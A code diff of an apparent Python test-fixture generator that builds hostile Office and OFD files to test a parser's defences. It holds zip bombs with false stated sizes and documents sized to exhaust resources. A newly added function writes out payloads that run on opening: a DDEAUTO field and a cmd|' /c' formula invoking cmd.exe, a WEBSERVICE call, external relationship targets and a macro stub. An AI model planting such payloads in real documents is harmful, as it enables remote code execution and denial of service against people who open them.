@@ -6,9 +6,11 @@ import io
 import zipfile
 from collections.abc import Mapping, Sequence
 
-from hostile.pdfs import deflated_zeros
-from hostile.texts import FORM
+from hostile.images import png
+from hostile.pdfs import deflated
+from hostile.zipfiles import ended, raw_entry, raw_local
 from ooxml_parts import SHEET, WORD
+from zips import FORM
 
 GROUPS: Sequence[str] = ("word", "book", "ofd", "bombs")
 LAUGHS = (
@@ -120,10 +122,10 @@ def _word() -> dict[str, bytes]:
         "tables-deep-wide.docx": packed(word_parts(more=_wide_tables(12))),
         "insertions-deep.docx": packed(word_parts(more=deep)),
         "insertions-deep-some.docx": packed(word_parts(more=some)),
-        "cells-million.docx": packed(word_parts(more=f"<w:tbl>{cells * 1000}</w:tbl>")),
+        "cells-200000.docx": packed(word_parts(more=f"<w:tbl>{cells * 200}</w:tbl>")),
         "text-long.docx": packed(word_parts(more=f"<w:p><w:r><w:t>{'a' * 50_000_000}</w:t></w:r></w:p>")),
-        "paragraphs-million.docx": packed(
-            word_parts(more="<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 1_000_000)
+        "paragraphs-150000.docx": packed(
+            word_parts(more="<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 150_000)
         ),
         "no-body.docx": packed({"word/document.xml": "<x/>"}),
         "no-xml.docx": packed({"word/document.xml": b"\0\xff"}),
@@ -145,7 +147,7 @@ def _book() -> dict[str, bytes]:
     far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
     merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
     merges = "<mergeCells>" + '<mergeCell ref="A9:XFD1048576"/>' * 100_000 + "</mergeCells>"
-    wide = "".join(f'<row r="{r}">' + "<c><v>1</v></c>" * 1000 + "</row>" for r in range(20, 500))
+    wide = "".join(f'<row r="{r}">' + "<c><v>1</v></c>" * 1000 + "</row>" for r in range(20, 140))
     formats = {
         "long": "0" * 1_000_000,
         "quotes": "&quot;" * 1_000_000,
@@ -186,12 +188,12 @@ def _book() -> dict[str, bytes]:
         "far-cell.xlsx": packed(book_parts(cells=far)),
         "merged-all.xlsx": packed(book_parts(more=merged)),
         "merged-many.xlsx": packed(book_parts(more=merges)),
-        "cells-480000.xlsx": packed(book_parts(cells=wide)),
+        "cells-120000.xlsx": packed(book_parts(cells=wide)),
         "reference.xlsx": packed(book_parts(cells='<row r="999999999"><c r="ZZZ9999999"><v>1</v></c></row>')),
         "shared-index.xlsx": packed(
             book_parts(cells=f'<row r="20"><c t="s"><v>{"9" * 100_000}</v></c><c t="s"><v>-1</v></c><c t="s"><v>²</v></c></row>')
         ),
-        "sheets-many.xlsx": packed(_many_sheets(2000)),
+        "sheets-many.xlsx": packed(_many_sheets(300)),
         "sheet-loop.xlsx": packed(
             {
                 **book_parts(),
@@ -236,10 +238,10 @@ def _ofd() -> dict[str, bytes]:
         "composite-billion.ofd": resourced(billion, calls.format(0)),
         "distances.ofd": packed(ofd_parts(text.format("g 999999999 1", "a" * 1000))),
         "numbers.ofd": packed(ofd_parts(text.format("1e999", "a" * 1000) + path.format("M 1e999 -1e999 L 1e400 3"))),
-        "path-long.ofd": packed(ofd_parts(path.format("M 0 0 " + "L 1 1 " * 1_000_000))),
+        "path-long.ofd": packed(ofd_parts(path.format("M 0 0 " + "L 1 1 " * 300_000))),
         "path-digits.ofd": packed(ofd_parts(path.format("1" * 2_000_000))),
-        "rules-many.ofd": packed(ofd_parts("".join(path.format(f"M 0 {n} L 200 {n}") for n in range(100_000)))),
-        "glyphs-million.ofd": packed(ofd_parts(text.format("g 1000000 0.1", "a" * 1_000_000))),
+        "rules-many.ofd": packed(ofd_parts("".join(path.format(f"M 0 {n} L 200 {n}") for n in range(50_000)))),
+        "glyphs-300000.ofd": packed(ofd_parts(text.format("g 1000000 0.1", "a" * 300_000))),
         "layers-deep.ofd": packed(ofd_parts("<Layer>" * 200 + "</Layer>" * 200)),
         "layers-deeper.ofd": packed(ofd_parts("<Layer>" * 20_000 + "</Layer>" * 20_000)),
         "box-huge.ofd": packed(ofd_parts(text.format(1, "a"), box="0 0 9999 9999")),
@@ -254,15 +256,12 @@ def _ofd() -> dict[str, bytes]:
         "no-pages.ofd": packed({"OFD.xml": f"<OFD {OFD_SPACE}/>"}),
         "picture-huge.ofd": packed(_pictured_ofd(1, "0 0 210 297", (60_000, 60_000))),
         "pictures-many.ofd": packed(_pictured_ofd(300, "0 0 210 297", (4_000, 4_000))),
-        "picture-on-huge.ofd": packed(_pictured_ofd(1, "0 0 9999 9999", (500, 500))),
     }
 
 
 def _pictured_ofd(count: int, box: str, size: tuple[int, int]) -> dict[str, str | bytes]:
-    from hostile.images import png
-
     mebibytes = size[0] * size[1] // 1024**2 + 1
-    image = png(*size, deflated_zeros(min(mebibytes, 140)))
+    image = png(*size, deflated(min(mebibytes, 140)))
     media = '<MultiMedia ID="9"><MediaFile>a.png</MediaFile></MultiMedia>'
     item = f'<ImageObject Boundary="{box}" ResourceID="9"/>'
     return {
@@ -273,13 +272,8 @@ def _pictured_ofd(count: int, box: str, size: tuple[int, int]) -> dict[str, str 
 
 
 def _bombs() -> dict[str, bytes]:
-    from hostile.zipfiles import ended, raw_entry, raw_local
-    import zlib
-
     def bomb(name: bytes, stated: int, unit: bytes, mebibytes: int) -> bytes:
-        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
-        piece = unit * (1024 * 1024 // len(unit))
-        data = b"".join([*(packer.compress(piece) for _ in range(mebibytes)), packer.flush()])
+        data = deflated(mebibytes, unit, wrapped=False)
         return ended(
             raw_local(name, len(data), stated, 0) + data, [raw_entry(name, 0, len(data), stated, 0)]
         )
@@ -289,7 +283,7 @@ def _bombs() -> dict[str, bytes]:
         "bomb-lying.docx": bomb(b"word/document.xml", 1000, b"<p/>", 500),
         "bomb.xlsx": bomb(b"xl/workbook.xml", 500 * 1024 * 1024, b"<p/>", 500),
         "bomb.ofd": bomb(b"OFD.xml", 500 * 1024 * 1024, b"<p/>", 500),
-        "elements-many.docx": packed({"word/document.xml": "<x>" + "<p/>" * 15_000_000 + "</x>"}),
+        "elements-many.docx": packed({"word/document.xml": "<x>" + "<p/>" * 3_000_000 + "</x>"}),
         "attributes-many.docx": packed(
             {"word/document.xml": "<x " + " ".join(f"a{n}='1'" for n in range(500_000)) + "/>"}
         ),
@@ -299,3 +293,36 @@ def _bombs() -> dict[str, bytes]:
 def files(group: str) -> dict[str, bytes]:
     """The files of a group, by their names."""
     return {"word": _word, "book": _book, "ofd": _ofd, "bombs": _bombs}[group]()
+
+
+def acting(address: str, marker: str) -> dict[str, bytes]:
+    """Office files that would fetch, include and run things, were they opened in an office."""
+    relation = '<Relationship Id="{0}" Type="x/{0}" Target="{1}" TargetMode="External"/>'
+    outside = "".join(
+        relation.format(name, f"{address}/{name}")
+        for name in ("attachedTemplate", "image", "oleObject", "hyperlink", "externalLink", "frame")
+    )
+    macros = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = Shell " + marker.encode()
+    field = (
+        '<w:p><w:r><w:instrText>INCLUDETEXT "{0}" DDEAUTO c:\\\\cmd.exe "/c {0}"'
+        '</w:instrText></w:r><w:altChunk r:id="image" xmlns:r="r"/></w:p>'
+    ).format(marker)
+    word = {
+        **word_parts(more=field),
+        "word/_rels/document.xml.rels": f"<Relationships>{outside}</Relationships>",
+        "word/_rels/settings.xml.rels": f"<Relationships>{outside}</Relationships>",
+        "word/vbaProject.bin": macros,
+    }
+    cells = (
+        f'<row r="20"><c><f>WEBSERVICE("{address}/f")</f><v>1</v></c>'
+        f"<c><f>cmd|' /c {marker}'!A1</f><v>2</v></c></row>"
+    )
+    book = book_parts(cells=cells)
+    relations = str(book["xl/_rels/workbook.xml.rels"]).replace("</Rel", f"{outside}</Rel", 1)
+    book = {**book, "xl/_rels/workbook.xml.rels": relations, "xl/vbaProject.bin": macros}
+    return {
+        "acting.docx": packed(word),
+        "acting.docm": packed(word),
+        "acting.xlsx": packed(book),
+        "acting.xlsm": packed(book),
+    }
